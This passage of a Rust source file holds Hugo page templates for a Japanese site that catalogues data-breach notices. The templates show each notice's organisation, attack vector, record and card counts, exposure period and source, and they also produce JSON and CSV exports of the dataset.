    {{ with .GetTerms "vectors" }}<dt>攻撃手法</dt><dd>{{ range . }}<a class="tag vector" href="{{ .RelPermalink }}">{{ index site.Data.vectors .Data.Term }}</a>{{ end }}</dd>{{ end }}
    {{ with .Params.records }}<dt>件数</dt><dd>{{ lang.FormatNumberCustom 0 . }}件</dd>{{ end }}
    {{ with .Params.cards }}<dt>カード</dt><dd>{{ lang.FormatNumberCustom 0 . }}件</dd>{{ end }}
    {{ with .Params.data }}<dt>情報</dt><dd><ul class="data-kinds">{{ range . }}<li>{{ . }}</li>{{ end }}</ul></dd>{{ end }}
    {{ if or .Params.exposure_from .Params.exposure_to }}<dt>期間</dt><dd>{{ .Params.exposure_from | default "?" }} 〜 {{ .Params.exposure_to | default "?" }}</dd>{{ end }}
    {{ with .Params.discovered }}<dt>発覚</dt><dd>{{ . }}</dd>{{ end }}
    {{ with $incTerm }}<dt>事案</dt><dd><a href="{{ .RelPermalink }}">{{ $inc }}</a></dd>{{ end }}
    {{ with .Params.source }}<dt>出典</dt><dd><a class="source" href="{{ . }}" rel="nofollow noopener noreferrer">{{ . }}</a></dd>{{ end }}
  </dl>
  {{ with .Params.follows }}
  <section class="links originals">
    <h2>これまでの発表</h2>
    <ul>{{ range . }}{{ with site.GetPage . }}<li>{{ partial "link.html" . }}</li>{{ end }}{{ end }}</ul>
  </section>
  {{ end }}
  <div class="body">
{{ .Content }}
  </div>
  {{ with index (partialCached "followers.html" .) (path.Join "/" .File.Dir .File.ContentBaseName) }}
  <section class="links follow-ups">
    <h2>続報</h2>
    <ul>{{ range . }}<li>{{ partial "link.html" . }}</li>{{ end }}</ul>
  </section>
  {{ end }}
  {{ with $incTerm }}
  <section class="timeline-box">
    <h2>経過 — <a href="{{ .RelPermalink }}">{{ $inc }}</a></h2>
    <ol class="timeline">
      {{ range $incPages }}
      <li{{ if eq . $self }} class="current" aria-current="page"{{ end }}>
        <time datetime="{{ .Date.Format "2006-01-02" }}">{{ .Date.Format "2006-01-02" }}</time>
        <span class="org">{{ index .Params.orgs 0 }}</span>
        {{ range .Params.labels }}<span class="tag label">{{ . }}</span>{{ end }}
        {{ if eq . $self }}<strong>{{ .Title }}</strong>{{ else }}<a href="{{ .RelPermalink }}">{{ .Title }}</a>{{ end }}
      </li>
      {{ end }}
    </ol>
  </section>
  {{ end }}
  {{ with $org }}
  {{ $same := slice }}
  {{ range .Pages }}{{ if and (lt (len $same) 5) (ne . $self) (or (not $inc) (ne .Params.incident $inc)) }}{{ $same = $same | append . }}{{ end }}{{ end }}
  {{ with $same }}
  <section class="links same-org">
    <h2>関連: {{ $orgName }}</h2>
    <ul>{{ range . }}<li>{{ partial "link.html" . }}</li>{{ end }}</ul>
  </section>
  {{ end }}
  {{ end }}
  {{ $prev := false }}{{ $next := false }}{{ $seen := false }}
  {{ range $incPages }}{{ if eq . $self }}{{ $seen = true }}{{ else if not $seen }}{{ $prev = . }}{{ else if not $next }}{{ $next = . }}{{ end }}{{ end }}
  {{ if or $prev $next }}
  <nav class="prev-next">
    {{ with $prev }}<a rel="prev" href="{{ .RelPermalink }}">← 前の発表: {{ .Title }}</a>{{ end }}
    {{ with $next }}<a rel="next" href="{{ .RelPermalink }}">次の発表: {{ .Title }} →</a>{{ end }}
  </nav>
  {{ end }}
</article>
{{ end }}
"##,
    ),
    (
        "_default/list.html",
        r##"{{ define "main" }}
<header class="list-header">
  {{ if eq .Kind "term" }}<p class="kicker">{{ .Data.Plural }}</p>{{ end }}
  <h1>{{ if .IsHome }}最新のお知らせ{{ else if eq .Data.Plural "vectors" }}{{ index site.Data.vectors .Data.Term }}{{ else }}{{ .Title }}{{ end }}</h1>
  {{ $pages := .Pages }}{{ if .IsHome }}{{ $pages = site.RegularPages }}{{ end }}
  {{ $pag := .Paginate $pages }}
  <p class="muted">{{ len $pages }}件{{ if gt $pag.TotalPages 1 }} · {{ $pag.PageNumber }}/{{ $pag.TotalPages }}{{ end }}{{ with .OutputFormats.Get "rss" }} · <a href="{{ .RelPermalink }}">フィード</a>{{ end }}</p>
</header>
{{/* Summaries on the home list only, as in jikenbo's theme; a card depends only on its page. */}}
{{ $summary := .IsHome }}
{{ range $pag.Pages }}{{ partialCached "card.html" (dict "p" . "summary" $summary) .RelPermalink $summary }}{{ end }}
{{ partial "pager.html" $pag }}
{{ end }}
"##,
    ),
    (
        "incidents/term.html",
        r##"{{ define "main" }}
{{ $pages := .Pages.ByDate }}
{{ $orgs := slice }}{{ range $pages }}{{ $orgs = $orgs | append .Params.orgs }}{{ end }}
<header class="list-header">
  <p class="kicker">事案 {{ .Data.Term }}</p>
  <h1>{{ (index $pages 0).Title }}</h1>
  <p class="muted">{{ delimit (uniq $orgs) "・" }} · {{ len $pages }} 件の発表</p>
</header>
<table class="timeline-table">
  <thead><tr><th>公表日</th><th>組織</th><th>ラベル</th><th>件数</th><th>攻撃手法</th></tr></thead>
  <tbody>
  {{ range $pages }}
  <tr>
    <td><time datetime="{{ .Date.Format "2006-01-02" }}">{{ .Date.Format "2006-01-02" }}</time></td>
    <td>{{ range .Params.orgs }}<a href="{{ (partialCached "org.html" . .).Page.RelPermalink }}">{{ . }}</a>{{ end }}</td>
    <td>{{ range .Params.labels }}<span class="tag label">{{ . }}</span>{{ end }}</td>
    <td>{{ with .Params.records }}{{ lang.FormatNumberCustom 0 . }}{{ end }}{{ with .Params.cards }}<br><span class="muted">カード {{ lang.FormatNumberCustom 0 . }}</span>{{ end }}</td>
    <td>{{ range .GetTerms "vectors" }}<a class="tag vector" href="{{ .RelPermalink }}">{{ index site.Data.vectors .Data.Term }}</a>{{ end }}</td>
  </tr>
  <tr class="release-title"><td></td><td colspan="4"><a href="{{ .RelPermalink }}">{{ .Title }}</a></td></tr>
  {{ end }}
  </tbody>
</table>
{{ end }}
"##,
    ),
    (
        "_default/terms.html",
        r##"{{ define "main" }}
<header class="list-header"><h1>{{ .Title }}</h1><p class="muted">{{ len .Data.Terms }}</p></header>
<ul class="term-list term-list-{{ .Data.Plural }}">
{{ range .Data.Terms.Alphabetical }}<li><a href="{{ .Page.RelPermalink }}">{{ .Page.LinkTitle }}</a> <span class="count">{{ .Count }}</span></li>
{{ end }}</ul>
{{ end }}
"##,
    ),
    (
        "index.dataset.json",
        r##"{{- /* jikenbo's data/notices.json: every notice's metadata, newest first, written a notice at a time. */ -}}
[{{ range $i, $p := site.RegularPages.ByDate.Reverse }}{{ if $i }},{{ end }}
{{- $vs := slice }}{{ range $p.Params.vectors }}{{ $vs = $vs | append (dict "id" . "name" (index site.Data.vectors .) "veris" (index site.Data.veris .)) }}{{ end }}
{{- $ds := slice }}{{ range $p.Params.data }}{{ $ds = $ds | append (dict "kind" . "hibp" (index site.Data.hibp .)) }}{{ end }}
{{- dict "id" $p.File.ContentBaseName "url" $p.Permalink "title" $p.Title "org" (index $p.Params.orgs 0) "published" ($p.Date.Format "2006-01-02") "incident" $p.Params.incident "labels" ($p.Params.labels | default slice) "vectors" $vs "records" $p.Params.records "cards" $p.Params.cards "data" $ds "exposure_from" $p.Params.exposure_from "exposure_to" $p.Params.exposure_to "discovered" $p.Params.discovered "follows" ($p.Params.follows | default slice) "source" $p.Params.source | jsonify }}
{{- end }}]
"##,
    ),
    (
        "index.datasetcsv.csv",
        concat!(
            "\u{feff}",
            r##"id,url,title,org,published,incident,labels,vectors,veris,records,cards,data,hibp,exposure_from,exposure_to,discovered,follows,source
{{ range site.RegularPages.ByDate.Reverse -}}
{{ $veris := slice }}{{ range .Params.vectors }}{{ $veris = $veris | append (index site.Data.veris .) }}{{ end -}}
{{ $hibp := slice }}{{ range .Params.data }}{{ with index site.Data.hibp . }}{{ $hibp = $hibp | append . }}{{ end }}{{ end -}}
{{- /* Ids, dates, numbers and URLs need no quotes; the notice's own words and VERIS names are quoted. */ -}}
{{ .File.ContentBaseName }},{{ .Permalink }},"{{ replace .Title "\"" "\"\"" }}","{{ replace (index .Params.orgs 0) "\"" "\"\"" }}",{{ .Date.Format "2006-01-02" }},{{ with .Params.incident }}{{ . }}{{ end }},"{{ replace (delimit (.Params.labels | default slice) ";") "\"" "\"\"" }}",{{ delimit .Params.vectors ";" }},"{{ delimit $veris ";" }}",{{ .Params.records }},{{ with .Params.cards }}{{ . }}{{ end }},"{{ replace (delimit .Params.data ";") "\"" "\"\"" }}",{{ delimit (uniq (sort $hibp)) ";" }},{{ with .Params.exposure_from }}{{ . }}{{ end }},{{ with .Params.exposure_to }}{{ . }}{{ end }},{{ .Params.discovered }},{{ delimit (.Params.follows | default slice) ";" }},{{ .Params.source }}
{{ end -}}
"##
        ),
    ),
    (
        "404.html",
        r##"{{ define "main" }}<h1>ページが見つかりません</h1><p><a href="{{ "" | relURL }}">トップへ</a></p>{{ end }}
"##,
    ),
];
